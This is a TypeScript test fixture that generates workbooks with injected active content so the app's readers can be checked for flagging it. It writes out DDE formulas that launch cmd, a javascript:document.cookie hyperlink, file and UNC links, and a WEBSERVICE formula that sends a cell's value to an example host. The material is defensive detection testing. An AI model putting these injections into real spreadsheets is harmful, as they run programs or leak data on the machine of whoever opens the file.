// Signed GreenThread workbooks with active content added, as the officer would then open them in
// Excel: links to other files, DDE, script and file hyperlinks, macros, embedded objects. None
// changes a cell, so a reader that looks only at cells calls each one intact; every reader
// (officer import, CLI verify/import, monitoring report, workshop collect) must flag them.
import type { ForeignContent } from '../../shared/workbook';
import { enc, workbookBytes } from './workbookCases';
import { sheetPartName } from './sheetXml';
import { textPart, unzipParts, withText, zipParts, type ZipPart } from './zipBytes';

export interface ActiveCase {
  id: string;
  title: string;
  bytes: Uint8Array;
  kind: ForeignContent['kind'];
  /** The case rewrites a data cell (a formula), so the cell is also a visible change. */
  editsCell?: true;
}

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const SHEET = 'xl/worksheets/sheet1.xml';
const SHEET_RELS = 'xl/worksheets/_rels/sheet1.xml.rels';
const WB_RELS = 'xl/_rels/workbook.xml.rels';

const relsXml = (rels: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`;

/** Adds relationships to a part's .rels, creating it when the part has none. */
function withRels(parts: readonly ZipPart[], relsName: string, rels: string): ZipPart[] {
  if (!parts.some((p) => p.name === relsName))
    return [...parts, { name: relsName, data: enc(relsXml(rels)) }];
  return withText(
    parts,
    relsName,
    textPart(parts, relsName).replace('</Relationships>', `${rels}</Relationships>`),
  );
}

/** A hyperlink on the first sheet's A1 to `target`, as Excel writes one (element + relationship). */
function hyperlinked(parts: readonly ZipPart[], target: string): ZipPart[] {
  const rel = `<Relationship Id="rIdGtLink" Type="${REL}/hyperlink" Target="${target.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}" TargetMode="External"/>`;
  const sheet = textPart(parts, SHEET);
  const link = '<hyperlinks><hyperlink ref="A1" r:id="rIdGtLink"/></hyperlinks>';
  const withNs = sheet.includes('xmlns:r=')
    ? sheet
    : sheet.replace('<worksheet ', `<worksheet xmlns:r="${REL}" `);
  const placed = withNs.includes('<pageMargins')
    ? withNs.replace('<pageMargins', `${link}<pageMargins`)
    : withNs.replace('</worksheet>', `${link}</worksheet>`);
  return withRels(withText(parts, SHEET, placed), SHEET_RELS, rel);
}

/** An external-link part naming another workbook (or, with `dde`, a program to start). */
function externalLinked(parts: readonly ZipPart[], dde: boolean): ZipPart[] {
  const body = dde
    ? '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'
    : '<externalBook r:id="rId1"><sheetNames><sheetName val="Data"/></sheetNames></externalBook>';
  const link = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}">${body}</externalLink>`;
  const added: ZipPart[] = [
    ...parts,
    { name: 'xl/externalLinks/externalLink1.xml', data: enc(link) },
  ];
  if (!dde)
    added.push({
      name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
      data: enc(
        relsXml(
          `<Relationship Id="rId1" Type="${REL}/externalLinkPath" Target="file:///C:/Finance/other.xlsx" TargetMode="External"/>`,
        ),
      ),
    });
  return withRels(
    added,
    WB_RELS,
    `<Relationship Id="rIdGtExt" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/>`,
  );
}

const xmlText = (v: string) =>
  v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/**
 * The first figure of the Metrics sheet turned into `formula` with the same cached number, as a
 * person typing it in Excel would leave it: a reader that trusts cached values sees nothing.
 */
function formulaInDataCell(parts: readonly ZipPart[], formula: string): ZipPart[] {
  const name = sheetPartName(parts, 'Metrics');
  const xml = textPart(parts, name);
  const cell = /<c r="([A-Z]+\d+)"((?: s="\d+")?)><v>(-?[\d.]+)<\/v><\/c>/.exec(xml);
  if (!cell) throw new Error('no figure on the Metrics sheet');
  const [whole, ref, style, value] = cell as unknown as [string, string, string, string];
  const next = `<c r="${ref}"${style}><f>${xmlText(formula)}</f><v>${value}</v></c>`;
  return withText(parts, name, xml.replace(whole, next));
}

export async function activeWorkbooks(): Promise<ActiveCase[]> {
  const good = await workbookBytes();
  const parts = unzipParts(good);
  const make = (edit: (p: readonly ZipPart[]) => ZipPart[]) => zipParts(edit(parts));
  return [
    {
      id: 'external-link',
      title: 'a link to a cell of another workbook',
      bytes: make((p) => externalLinked(p, false)),
      kind: 'external_link',
    },
    {
      id: 'dde',
      title: 'a DDE link that starts a program',
      bytes: make((p) => externalLinked(p, true)),
      kind: 'dde',
    },
    {
      id: 'javascript-hyperlink',
      title: 'a javascript: hyperlink',
      bytes: make((p) => hyperlinked(p, 'javascript:alert(document.cookie)')),
      kind: 'script_link',
    },
    {
      id: 'file-hyperlink',
      title: 'a file: hyperlink to a program',
      bytes: make((p) => hyperlinked(p, 'file:///C:/Windows/System32/calc.exe')),
      kind: 'external_link',
    },
    {
      id: 'unc-hyperlink',
      title: 'a hyperlink to a file on another computer (UNC)',
      bytes: make((p) => hyperlinked(p, '\\\\198.51.100.7\\share\\loan.xlsx')),
      kind: 'external_link',
    },
    {
      id: 'https-hyperlink',
      title: 'a web hyperlink (GreenThread writes no links)',
      bytes: make((p) => hyperlinked(p, 'https://example.com/pay-here?loan=1')),
      kind: 'web_link',
    },
    {
      id: 'mailto-hyperlink',
      title: 'a mail hyperlink',
      bytes: make((p) => hyperlinked(p, 'mailto:officer@example.com?subject=loan')),
      kind: 'web_link',
    },
    {
      id: 'dde-formula',
      title: 'a DDE formula in a data cell that starts a program',
      bytes: make((p) => formulaInDataCell(p, "cmd|' /C calc'!A0")),
      kind: 'dde',
      editsCell: true,
    },
    {
      id: 'dde-function',
      title: 'a DDE() formula in a data cell',
      bytes: make((p) => formulaInDataCell(p, 'DDE("cmd","/C calc","A0")')),
      kind: 'dde',
      editsCell: true,
    },
    {
      id: 'webservice-formula',
      title: 'a WEBSERVICE() formula in a data cell',
      bytes: make((p) => formulaInDataCell(p, 'WEBSERVICE("https://example.com/x?d="&A1)+0')),
      kind: 'web_link',
      editsCell: true,
    },
    {
      id: 'hyperlink-formula',
      title: 'a HYPERLINK() formula in a data cell',
      bytes: make((p) => formulaInDataCell(p, 'HYPERLINK("https://example.com","12")')),
      kind: 'web_link',
      editsCell: true,
    },
    {
      id: 'vba',
      title: 'a VBA macro project',
      bytes: make((p) =>
        withRels(
          [
            ...p,
            { name: 'xl/vbaProject.bin', data: enc('\u00d0\u00cf\u0011\u00e0 not really VBA') },
          ],
          WB_RELS,
          `<Relationship Id="rIdGtVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
        ),
      ),
      kind: 'macros',
    },
    {
      id: 'ole-object',
      title: 'an embedded OLE object',
      bytes: make((p) =>
        withRels(
          [...p, { name: 'xl/embeddings/oleObject1.bin', data: enc('OLE') }],
          SHEET_RELS,
          `<Relationship Id="rIdGtOle" Type="${REL}/oleObject" Target="../embeddings/oleObject1.bin"/>`,
        ),
      ),
      kind: 'embedded_object',
    },
  ];
}
